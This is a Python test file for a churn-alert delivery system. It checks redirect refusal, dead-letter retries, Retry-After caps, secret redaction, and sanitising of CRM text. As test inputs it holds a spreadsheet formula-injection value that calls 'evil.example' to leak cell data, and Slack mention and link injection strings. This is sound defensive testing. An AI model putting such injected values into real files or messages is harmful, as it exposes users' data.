"""Delivery guarantees under hostile receivers: redirects are never followed, refused
credentials and dead letters never lose records, long Retry-After waits are capped, and
nothing secret reaches the output or the audit tables."""

from __future__ import annotations

import pytest
from delivery_fixtures import Receiver, WebhookServer, alert_row, default_alerts, query, write_marts

from churnguard.delivery.config import DeliveryConfig, Destination
from churnguard.delivery.deadletter import dead_letter_path, read
from churnguard.delivery.engine import sync
from churnguard.quality.result import GateResult

PASSED = GateResult(checked_at="test", suites=[])
TOKEN = "s3cr3t-token-0123456789"


@pytest.fixture
def receiver():
    return Receiver()


@pytest.fixture
def server(receiver):
    server = WebhookServer(receiver)
    yield server
    server.stop()


@pytest.fixture
def elsewhere():
    """Another origin: where a followed redirect would land."""
    other = Receiver()
    server = WebhookServer(other)
    yield server
    server.stop()


def _config(url: str, **options) -> DeliveryConfig:
    base = {
        "url": url,
        "format": "json",
        "batch_size": 10,
        "rate_limit_per_second": 1000,
        "max_retries": 2,
        "backoff_initial_seconds": 0.01,
        "backoff_max_seconds": 0.05,
        "timeout_seconds": 5,
        "headers": {"Authorization": f"Bearer {TOKEN}"},
    }
    base.update(options)
    return DeliveryConfig(destinations=(Destination("crm_hook", "webhook", base),))


def _sync(warehouse, config, messages=None, **kwargs):
    log = messages.append if messages is not None else (lambda m: None)
    return sync(warehouse, config=config, gate=PASSED, log=log, **kwargs)


def _alert_ids(records):
    return sorted(r["alert"]["alert_id"] for r in records)


ALL_SIX = [f"alert-{i:04d}" for i in range(1, 7)]


# --- item 2: a 3xx is a failure, never followed --------------------------------------------


@pytest.mark.parametrize("status", [301, 302, 303, 307, 308])
def test_a_redirect_is_a_failure_and_nothing_reaches_the_other_origin(status, server, receiver, elsewhere, isolated_warehouse):
    warehouse = write_marts(isolated_warehouse)
    receiver.script = [(status, {"Location": elsewhere.url + "?token=leak"})]
    report = _sync(warehouse, _config(server.url))
    result = report.destination("crm_hook")
    assert (result.status, result.sent, result.failed, result.dead_lettered) == ("failed", 0, 6, 0)
    assert f"HTTP {status} redirect" in result.error and "leak" not in result.error
    assert elsewhere.receiver.requests == []  # no GET, no token at the other origin
    assert len(receiver.requests) == 1  # not retried either
    assert not report.ok
    # The records were not recorded as delivered: the next sync (URL fixed) sends all six.
    receiver.script = []
    again = _sync(warehouse, _config(server.url)).destination("crm_hook")
    assert (again.status, again.sent) == ("success", 6)
    assert _alert_ids(receiver.applied_records()) == ALL_SIX


# --- item 3: 401 and dead letters -----------------------------------------------------------


def test_refused_credentials_dead_letter_nothing_and_the_next_sync_delivers_everything(server, receiver, isolated_warehouse):
    warehouse = write_marts(isolated_warehouse)
    receiver.script = [(401, {})]
    first = _sync(warehouse, _config(server.url)).destination("crm_hook")
    assert (first.status, first.sent, first.failed, first.dead_lettered) == ("failed", 0, 6, 0)
    assert "HTTP 401" in first.error and "credentials" in first.error
    assert len(receiver.requests) == 1  # one refusal is enough: no per-record splitting
    assert not dead_letter_path(isolated_warehouse.parent / "deliveries" / "dead_letters", "crm_hook").exists()
    second = _sync(warehouse, _config(server.url)).destination("crm_hook")
    assert (second.status, second.sent, second.unchanged) == ("success", 6, 0)
    assert _alert_ids(receiver.applied_records()) == ALL_SIX


def test_dead_letters_are_retried_by_the_next_sync_with_their_keys_and_counted_as_parked(server, receiver, isolated_warehouse):
    warehouse = write_marts(isolated_warehouse)
    receiver.reject_alerts = {"alert-0003", "alert-0005"}
    first = _sync(warehouse, _config(server.url))
    result = first.destination("crm_hook")
    assert (result.status, result.sent, result.dead_lettered, result.parked) == ("partial", 4, 2, 2)
    assert "2 parked in dead letters" in first.format()
    dead_dir = isolated_warehouse.parent / "deliveries" / "dead_letters"
    keys = {r["alert_id"]: r["idempotency_key"] for r in read(dead_dir, "crm_hook")}
    assert sorted(keys) == ["alert-0003", "alert-0005"]

    # Still rejected: retried once per sync, still parked, not reported as success.
    second = _sync(warehouse, _config(server.url)).destination("crm_hook")
    assert (second.status, second.sent, second.unchanged, second.parked) == ("partial", 0, 4, 2)
    assert query(warehouse, "select status, parked from delivery.sync_runs order by started_at") == [
        ("partial", 2),
        ("partial", 2),
    ]

    receiver.reject_alerts = set()
    third = _sync(warehouse, _config(server.url))
    result = third.destination("crm_hook")
    assert (result.status, result.sent, result.parked) == ("success", 2, 0)
    resent = {r["alert"]["alert_id"]: r["idempotency_key"] for r in receiver.requests[-1]["body"]["records"]}
    assert resent == keys  # the same idempotency keys
    assert _alert_ids(receiver.applied_records()) == ALL_SIX
    assert not dead_letter_path(dead_dir, "crm_hook").exists()
    assert "parked" not in third.format()


# --- item 6: no secret in output, logs or the audit table ----------------------------------


@pytest.mark.parametrize(
    "url",
    [
        "hooks.example.com/services/T000/B000/XXXXSECRETXXXX",  # no scheme
        "http://127.0.0.1:9/services/T000/B000/XXXXSECRETXXXX",  # nothing listens on port 9
        "http://user:XXXXSECRETXXXX@127.0.0.1:9/hook",
    ],
)
def test_a_failing_webhook_never_shows_its_url_token(url, isolated_warehouse):
    warehouse = write_marts(isolated_warehouse)
    messages: list[str] = []
    report = _sync(warehouse, _config(url, max_retries=1), messages)
    result = report.destination("crm_hook")
    assert result.status == "failed" and result.error
    stored = query(warehouse, "select error from delivery.sync_runs")
    for text in [report.format(), *messages, str(stored)]:
        assert "XXXXSECRETXXXX" not in text and TOKEN not in text
    assert "…" in result.error  # the origin is shown, the rest hidden


def test_postgres_password_never_shows(isolated_warehouse):
    warehouse = write_marts(isolated_warehouse)
    dsn = "postgresql://churn:hunter2hunter2@127.0.0.1:1/crm?connect_timeout=2"
    config = DeliveryConfig(destinations=(Destination("crm_db", "postgres", {"dsn": dsn}),))
    messages: list[str] = []
    report = _sync(warehouse, config, messages)
    assert report.destination("crm_db").status == "failed"
    for text in [report.format(), *messages, str(query(warehouse, "select error from delivery.sync_runs"))]:
        assert "hunter2hunter2" not in text


def test_redact_text_hides_urls_tokens_and_passwords():
    from churnguard.delivery.redact import redact_text, redact_url

    assert redact_url("https://hooks.slack.com/services/T0/B0/abc") == "https://hooks.slack.com/…"
    assert redact_url("https://crm.example.com") == "https://crm.example.com"
    assert redact_text("POST hooks.slack.com/services/T0/B0/abc failed") == "POST hooks.slack.com/… failed"
    assert redact_text("Authorization: Bearer abc.def-123") == "Authorization: Bearer …"
    assert redact_text("host=db user=u password=pa55word dbname=x") == "host=db user=u password=… dbname=x"
    assert redact_text("postgresql://u:pa55word@db:5432/crm") == "postgresql://db:5432/…"
    assert redact_text("the key is k-1234567", secrets=["k-1234567"]) == "the key is …"


def test_run_failure_webhook_error_does_not_carry_the_url():
    from churnguard.defs.sensors import WebhookError, post_json

    with pytest.raises(WebhookError) as info:
        post_json("http://127.0.0.1:9/services/T1/B1/XXXXSECRETXXXX", {"text": "x"}, timeout=2)
    assert "XXXXSECRETXXXX" not in str(info.value) and "http://127.0.0.1:9/…" in str(info.value)


# --- item 7: CRM text is neutralised for spreadsheets and escaped for Slack ----------------


def test_csv_delivery_neutralises_spreadsheet_formulas(isolated_warehouse, tmp_path):
    import csv

    import pyarrow.parquet as pq

    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    alerts = [
        alert_row(1, customer_name=evil),
        alert_row(2, customer_name="@SUM(A1:A9)"),
        alert_row(3, customer_name="-2+3"),
        alert_row(4, customer_name="Acme - East"),
    ]
    warehouse = write_marts(isolated_warehouse, alerts)
    config = DeliveryConfig(destinations=(Destination("files", "files", {"directory": str(tmp_path / "out")}),))
    _sync(warehouse, config)
    with open(tmp_path / "out" / "alert_list.csv", newline="") as handle:
        names = [row["customer_name"] for row in csv.DictReader(handle)]
    assert names == ["'" + evil, "'@SUM(A1:A9)", "'-2+3", "Acme - East"]
    scores = [row["health_score"] for row in csv.DictReader(open(tmp_path / "out" / "alert_list.csv", newline=""))]
    assert scores == ["42", "42", "42", "42"]  # numbers untouched
    assert pq.read_table(tmp_path / "out" / "alert_list.parquet").column("customer_name").to_pylist()[0] == evil


def test_slack_messages_escape_mentions_and_links(server, receiver, isolated_warehouse):
    alerts = [alert_row(1, customer_name="<!channel> Acme & Co <https://evil.example|your invoice>")]
    warehouse = write_marts(isolated_warehouse, alerts)
    _sync(warehouse, _config(server.url, format="slack"))
    body = receiver.requests[0]["body"]
    shown = body["blocks"][0]["text"]["text"]
    assert "&lt;!channel&gt; Acme &amp; Co &lt;https://evil.example|your invoice&gt;" in shown
    assert "<!channel>" not in body["text"] and "<https://evil" not in body["text"]


# --- item 11: Retry-After is capped, then the records are parked ---------------------------


def test_a_retry_after_of_an_hour_is_not_waited_for(server, receiver, isolated_warehouse):
    import time

    warehouse = write_marts(isolated_warehouse)
    receiver.script = [(429, {"Retry-After": "3600"})]
    started = time.monotonic()
    report = _sync(warehouse, _config(server.url))
    assert time.monotonic() - started < 10
    result = report.destination("crm_hook")
    assert (result.status, result.sent, result.dead_lettered, result.parked) == ("partial", 0, 6, 6)
    assert "Retry-After" in str(read(isolated_warehouse.parent / "deliveries" / "dead_letters", "crm_hook")[0]["error"])
    assert len(receiver.requests) == 1
    again = _sync(warehouse, _config(server.url)).destination("crm_hook")
    assert (again.status, again.sent, again.parked) == ("success", 6, 0)
    assert _alert_ids(receiver.applied_records()) == ALL_SIX


def test_the_total_wait_per_destination_is_capped(server, receiver, isolated_warehouse):
    warehouse = write_marts(isolated_warehouse)
    receiver.script = [(503, {"Retry-After": "40"})] * 3
    waits: list[float] = []
    config = _config(server.url, max_retries=5, max_wait_seconds=100)
    report = _sync(warehouse, config, sleep=waits.append)
    assert [w for w in waits if w >= 1] == [40, 40]  # a third 40 s wait would pass 100 s
    result = report.destination("crm_hook")
    assert (result.status, result.dead_lettered) == ("partial", 6)


def _lock_probe(warehouse, seen: list[str]):
    """Another writer (a load) trying the lock while the receiver answers: 'free' or 'held'."""
    from churnguard.defs.locking import WarehouseBusyError, warehouse_lock

    def probe() -> None:
        try:
            with warehouse_lock(warehouse, holder="probe", timeout=0):
                seen.append("free")
        except WarehouseBusyError:
            seen.append("held")

    return probe


def test_the_warehouse_lock_is_free_while_a_destination_is_waited_on(server, receiver, isolated_warehouse):
    warehouse = write_marts(isolated_warehouse)
    seen: list[str] = []
    receiver.on_request = _lock_probe(warehouse, seen)
    receiver.script = [(503, {}), (503, {})]
    report = _sync(warehouse, _config(server.url))
    assert report.destination("crm_hook").sent == 6
    assert seen == ["free", "free", "free"]
    assert query(warehouse, "select count(*) from delivery.sync_state where status = 'open'") == [(6,)]


def test_a_run_holding_the_lock_lets_writers_in_while_it_delivers(server, receiver, isolated_warehouse):
    """`churnguard run` holds the lock for the whole run; its delivery step releases it meanwhile."""
    from churnguard.defs.locking import holds_lock, read_holder, warehouse_lock

    warehouse = write_marts(isolated_warehouse)
    seen: list[str] = []
    receiver.on_request = _lock_probe(warehouse, seen)
    with warehouse_lock(warehouse, holder="churnguard run (test)"):
        report = _sync(warehouse, _config(server.url))
        assert holds_lock(warehouse) and "churnguard" in read_holder(warehouse)["what"]
    assert report.destination("crm_hook").sent == 6 and seen == ["free"]


# --- item 13: stale sources block delivery unless accepted with a reason -------------------


def _raw_logins(warehouse, synced_hours_ago: float, source_dir: str = "/data/export") -> None:
    from datetime import datetime, timedelta, timezone

    import duckdb

    synced = datetime.now(timezone.utc).replace(tzinfo=None) - timedelta(hours=synced_hours_ago)
    con = duckdb.connect(str(warehouse))
    try:
        con.execute("create schema if not exists raw_crm")
        con.execute("create or replace table raw_crm.logins (login_id varchar, _synced_at timestamp)")
        con.execute("insert into raw_crm.logins values ('L1', ?::timestamp - interval 5 day), ('L2', ?)", [synced, synced])
        con.execute("create schema if not exists raw_meta")
        con.execute("create or replace table raw_meta.load_log (load_id varchar, loaded_at timestamp, source_dir varchar, "
                    "\"table\" varchar, file varchar, row_count bigint)")
        con.execute("insert into raw_meta.load_log values ('x', now(), ?, 'crm.logins', 'crm__logins.csv', 2)", [source_dir])
    finally:
        con.close()


def test_an_export_333_days_old_blocks_delivery_and_is_audited(tmp_path, isolated_warehouse, monkeypatch):
    monkeypatch.delenv("CHURNGUARD_OVERRIDE_STALE_DATA", raising=False)
    warehouse = write_marts(isolated_warehouse)
    _raw_logins(warehouse, 333 * 24)
    config = DeliveryConfig(destinations=(Destination("files", "files", {"directory": str(tmp_path / "out")}),))
    report = _sync(warehouse, config)
    assert report.blocked and report.destination("files").status == "blocked"
    assert "source_freshness.source_is_fresh" in report.destination("files").error
    assert "333.0 days old (error after 3.0 days)" in report.format()
    assert not (tmp_path / "out" / "alert_list.csv").exists()
    assert query(warehouse, "select suite, kind, overridden from delivery.quality_failures") == [
        ("source_freshness", "freshness", False)
    ]
    assert PASSED.suites == []  # the caller's gate result is not changed

    accepted = _sync(warehouse, config, override_stale_reason="CRM export frozen during the migration")
    assert accepted.destination("files").status == "success" and accepted.destination("files").sent == 6
    assert query(warehouse, "select override_reason from delivery.sync_runs where status = 'success'") == [
        ("stale sources: CRM export frozen during the migration",)
    ]


def test_warn_level_staleness_and_the_bundled_sample_do_not_block(tmp_path, isolated_warehouse, monkeypatch):
    from churnguard import settings

    monkeypatch.delenv("CHURNGUARD_OVERRIDE_STALE_DATA", raising=False)
    warehouse = write_marts(isolated_warehouse)
    config = DeliveryConfig(destinations=(Destination("files", "files", {"directory": str(tmp_path / "out")}),))
    _raw_logins(warehouse, 48)  # logins: warn after 36 h, error after 72 h
    report = _sync(warehouse, config)
    assert report.destination("files").status == "success"
    _raw_logins(warehouse, 333 * 24, source_dir=str(settings.SAMPLE_DATA_DIR))
    report = _sync(warehouse, config)
    assert report.destination("files").status == "success"
    assert "bundled sample data: 1 raw table(s) past their freshness error threshold (oldest crm.logins" in report.format()


# --- item 18: include_contact_email works with the real alert mart ---------------------------


def test_include_contact_email_reads_the_key_contact_when_the_mart_has_no_email_column(tmp_path, isolated_warehouse):
    import csv

    import duckdb

    alerts = [{k: v for k, v in alert_row(i).items()} for i in (1, 2)]
    warehouse = write_marts(isolated_warehouse, alerts)
    con = duckdb.connect(str(warehouse))
    try:
        con.execute("alter table marts.current_alert_list drop column key_contact_email")  # as the real mart
        con.execute("create schema staging")
        con.execute(
            "create table staging.stg_crm__contacts as select * from (values "
            "('c1', 'cust-0001', 'old@one.example', true, timestamp '2024-01-01', timestamp '2025-01-01'), "
            "('c2', 'cust-0001', 'buyer@one.example', true, timestamp '2025-01-02', null), "
            "('c3', 'cust-0001', 'user@one.example', false, timestamp '2025-06-01', null)"
            ") as t(contact_id, customer_id, email, is_decision_maker, valid_from, valid_to)"
        )
    finally:
        con.close()
    config = DeliveryConfig(
        destinations=(Destination("files", "files", {"directory": str(tmp_path / "out"), "formats": ["csv"]}),),
        include_contact_email=True,
    )
    report = _sync(warehouse, config)
    assert report.ok, report.format()
    with open(tmp_path / "out" / "alert_list.csv", newline="") as handle:
        emails = {row["customer_id"]: row["contact_email"] for row in csv.DictReader(handle)}
    assert emails == {"cust-0001": "buyer@one.example", "cust-0002": ""}


def test_dead_letter_replay_also_sends_without_the_warehouse_lock(server, receiver, isolated_warehouse):
    warehouse = write_marts(isolated_warehouse)
    receiver.reject_alerts = {"alert-0002"}
    _sync(warehouse, _config(server.url))
    receiver.reject_alerts = set()
    seen: list[str] = []
    receiver.on_request = _lock_probe(warehouse, seen)
    replay = _sync(warehouse, _config(server.url), retry_dead_letters=True).destination("crm_hook")
    assert (replay.status, replay.replayed, replay.parked) == ("success", 1, 0) and seen == ["free"]
    assert query(warehouse, "select status from delivery.sync_state where alert_id = 'alert-0002'") == [("open",)]


def test_two_syncs_of_one_warehouse_take_turns(server, receiver, isolated_warehouse, monkeypatch):
    """Syncs deliver without the warehouse lock, so they serialise on their own delivery lock."""
    import subprocess
    import sys

    from churnguard.defs.locking import WarehouseBusyError

    warehouse = write_marts(isolated_warehouse)
    holder = subprocess.Popen(
        [sys.executable, "-c",
         "import sys, time; from churnguard.defs.locking import delivery_lock\n"
         "with delivery_lock(sys.argv[1], holder='churnguard sync (another terminal)'):\n"
         "    print('held', flush=True); time.sleep(30)", str(warehouse)],
        stdout=subprocess.PIPE, text=True,
    )
    try:
        assert holder.stdout.readline().strip() == "held"
        monkeypatch.setenv("CHURNGUARD_LOCK_TIMEOUT", "0")
        with pytest.raises(WarehouseBusyError, match="another terminal"):
            _sync(warehouse, _config(server.url))
    finally:
        holder.kill()
        holder.wait()
    assert receiver.requests == []
    assert _sync(warehouse, _config(server.url)).destination("crm_hook").sent == 6
